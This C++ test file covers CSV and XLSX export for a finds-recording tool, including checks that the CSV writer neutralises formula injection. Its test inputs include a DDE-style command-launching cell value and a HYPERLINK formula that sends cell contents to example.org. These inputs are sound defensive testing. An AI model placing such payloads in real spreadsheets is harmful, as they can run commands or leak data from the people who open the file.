#include <gtest/gtest.h>

#include <algorithm>

#include "base/random.h"
#include "exchange/sheets/delimited.h"
#include "exchange/sheets/encoding.h"
#include "exchange/sheets/sheet_fixture.h"
#include "exchange/sheets/write_csv.h"
#include "exchange/sheets/write_xlsx.h"
#include "exchange/sheets/zip_file.h"

namespace sherd::exchange {
namespace {

using namespace std::string_literals;
using fixture::Row;
using Rows = std::vector<Row>;

std::string csv_of(const Rows& rows, char delimiter = ',') {
  CsvWriter writer(delimiter);
  for (const Row& row : rows) writer.row(row);
  return writer.take();
}

TEST(WriteCsv, quotes_only_where_it_must) {
  // RFC 4180 section 2, rules 5 to 7.
  EXPECT_EQ(csv_of({{"a", "b c", "d,e", "f\"g", "h\ni", "", "j\r"}}), "a,b c,\"d,e\",\"f\"\"g\",\"h\ni\",,\"j\r\"\n");
  EXPECT_EQ(csv_of({{"a,b", "c;d"}}, ';'), "a,b;\"c;d\"\n");
}

// The beginnings are those of OWASP's page "CSV Injection": = + - @, tab, carriage return.
TEST(WriteCsv, keeps_a_spreadsheet_from_taking_a_cell_for_a_formula) {
  EXPECT_EQ(csv_of({{"=1+1", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "+x"}}),
            "'=1+1,'@SUM(A1),'-2+3+cmd|' /C calc'!A0,'+x\n");
  EXPECT_EQ(csv_of({{"=HYPERLINK(\"http://example.org/?\"&A1)", "\tx", "\r=1"}}),
            "\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1)\",'\tx,\"'\r=1\"\n");
}

TEST(WriteCsv, leaves_numbers_spans_and_single_signs_as_they_are) {
  EXPECT_EQ(csv_of({{"-3", "+2.5", "-50:450", "-", "=", "a=b", "'tis", "-1,5"}}),
            "-3,+2.5,-50:450,-,=,a=b,'tis,\"-1,5\"\n");
}

TEST(WriteCsv, an_apostrophe_of_ones_own_before_a_formula_comes_back) {
  const Rows rows{{"'=1+1", "''@xy", "'", "''"}, {"x", "y", "z", "w"}};
  EXPECT_EQ(csv_of(rows), "''=1+1,'''@xy,',''\nx,y,z,w\n");
  EXPECT_EQ(fixture::cells_of(csv_of(rows)), rows);
}

TEST(WriteCsv, keeps_the_start_of_a_file_from_being_misread) {
  EXPECT_EQ(csv_of({{"sep=;", "a"}}), "\"sep=;\",a\n");
  EXPECT_EQ(csv_of({{""}}), "\"\"\n");
}

/// Cells of the characters that a reader could trip over, and others of one to four bytes.
std::string random_cell(Random& random) {
  static const std::vector<std::string> kPieces = {"\"", "\"\"", ",",  ";", "\t", "|",    "\n",           "\r", "\r\n",
                                                   " ",  "a",    "Z9", "=", "-",  "sep=", "\xEF\xBB\xBF", "'",  "\\"};
  std::string cell;
  for (std::int64_t left = random.geometric(3); left > 0; --left) {
    if (random.below(3) > 0) {
      cell += kPieces[random.below(static_cast<std::uint32_t>(kPieces.size()))];
    } else {
      const char32_t c = 1 + random.below(0x10FFFF);
      append_utf8(cell, c >= 0xD800 && c <= 0xDFFF ? U'\u00E9' : c);
    }
  }
  return cell;
}

TEST(WriteCsv, what_is_written_reads_back_as_the_same_cells) {
  Random random(20240301);
  std::size_t rows_compared = 0;
  for (int table = 0; table < 3000; ++table) {
    Rows rows(random.below(5));
    for (Row& row : rows) {
      row.resize(1 + random.below(4));
      for (std::string& cell : row) cell = random_cell(random);
    }
    const char delimiter = ",;\t|"[random.below(4)];
    const std::string bytes = csv_of(rows, delimiter);
    const DecodedText text{"UTF-8", std::nullopt,
                           std::string_view(bytes).substr(bytes.starts_with("\xEF\xBB\xBF") ? 3 : 0)};
    const auto source = open_delimited(text, delimiter, "t.csv", {});
    std::erase_if(rows, [](const Row& row) {
      return std::ranges::all_of(row, [](const std::string& cell) { return cell.empty(); });
    });
    SheetRow got;
    for (const Row& row : rows) {
      const auto more = source->next(got);
      ASSERT_TRUE(more && *more) << bytes;
      Row cells;
      for (const Cell& cell : got.cells) {
        cells.emplace_back(cell.text);
        ASSERT_TRUE(cell.problem.empty()) << bytes;
      }
      ASSERT_EQ(cells, row) << bytes;
      ++rows_compared;
    }
    ASSERT_EQ(source->next(got), Result<bool>(false)) << bytes;
  }
  EXPECT_GT(rows_compared, 3000U);
}

XlsxBook book_of(const Rows& rows) {
  return {.sheets = {{.title = "Finds",
                      .columns = {{"context", 10, XlsxColumnType::text},
                                  {"count", 8, XlsxColumnType::integer},
                                  {"weight_g", 8, XlsxColumnType::number}},
                      .rows = rows}},
          .title = "Finds",
          .created = 1'700'000'000};
}

TEST(WriteXlsx, what_is_written_reads_back_as_the_same_cells) {
  const auto bytes = write_xlsx(
      book_of({{"101", "3", "14.5"}, {"<&>\"é\n甕", "", "-0.25"}, {"", "several", "1e3"}, {"=1+1", "12", "0"}}));
  ASSERT_TRUE(bytes);
  EXPECT_EQ(fixture::cells_of(*bytes), (Rows{{"context", "count", "weight_g"},
                                             {"101", "3", "14.5"},
                                             {"<&>\"é\n甕", "", "-0.25"},
                                             {"", "several", "1000"},
                                             {"=1+1", "12", "0"}}));
}

TEST(WriteXlsx, control_characters_and_coded_ones_come_back) {
  const Rows rows{{"tab\tand\x01", "", ""}, {"_x0009_", "", ""}, {"  spaces  ", "", ""}, {"two\nlines", "", ""}};
  const auto bytes = write_xlsx(book_of(rows));
  ASSERT_TRUE(bytes);
  const auto cells = fixture::cells_of(*bytes);
  ASSERT_EQ(cells.size(), 5U);
  for (std::size_t i = 0; i < rows.size(); ++i) EXPECT_EQ(cells[i + 1][0], rows[i][0]);
}

TEST(WriteXlsx, numbers_are_numbers_bold_headers_stay_and_filter) {
  const auto bytes = write_xlsx(book_of({{"101", "3", "14.5"}}));
  auto zip = ZipFile::open(*bytes, {});
  ASSERT_TRUE(zip);
  const std::string sheet = *zip->beginning("xl/worksheets/sheet1.xml", 100'000);
  EXPECT_NE(sheet.find("<v>14.5</v>"), std::string::npos);
  EXPECT_NE(sheet.find(R"(<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>)"),
            std::string::npos);
  EXPECT_NE(sheet.find(R"(<autoFilter ref="A1:C2"/>)"), std::string::npos);
  EXPECT_NE(zip->beginning("xl/styles.xml", 100'000)->find("<b/>"), std::string::npos);
  EXPECT_NE(zip->beginning("docProps/core.xml", 100'000)->find("2023-11-14T22:13:20Z"), std::string::npos);
}

TEST(WriteXlsx, the_same_book_gives_the_same_bytes) {
  const XlsxBook book = book_of({{"101", "3", "14.5"}});
  EXPECT_EQ(*write_xlsx(book), *write_xlsx(book));
  XlsxBook undated = book;
  undated.created = 0;
  EXPECT_NE(
      ZipFile::open(*write_xlsx(undated), {})->beginning("docProps/core.xml", 100'000)->find("1970-01-01T00:00:01Z"),
      std::string::npos);
}

TEST(WriteXlsx, several_sheets_are_written_in_order) {
  XlsxBook book = book_of({{"101"}});
  book.sheets.push_back({.title = "Rims", .columns = {{"record", 10, XlsxColumnType::text}}, .rows = {{"7"}}});
  const auto table = fixture::read_whole(*write_xlsx(book), "t.xlsx", "Rims");
  ASSERT_TRUE(table);
  EXPECT_EQ(table->cells, (Rows{{"record"}, {"7"}}));
  EXPECT_EQ(table->format.sheets, (std::vector<std::string>{"Finds", "Rims"}));
}

TEST(WriteXlsx, what_the_format_cannot_hold_is_refused) {
  EXPECT_EQ(write_xlsx({}).error().code, "no_sheet");
  const Error error = write_xlsx(book_of({{"101"}, {std::string(32'768, 'x')}})).error();
  EXPECT_EQ(error.code, "cell_too_large");
  EXPECT_EQ(error.message, "The cell A3 of the sheet \"Finds\" is longer than an XLSX holds (32,767 characters).");
  for (const char* title : {"", "a/b", "a name of more than thirty-one characters"}) {
    XlsxBook book = book_of({});
    book.sheets[0].title = title;
    EXPECT_EQ(write_xlsx(book).error().message, "\""s + title + "\" cannot be the title of a sheet.");
  }
  XlsxBook twice = book_of({});
  twice.sheets.push_back(twice.sheets[0]);
  EXPECT_EQ(write_xlsx(twice).error().code, "bad_sheet_title");
}

}  // namespace
}  // namespace sherd::exchange
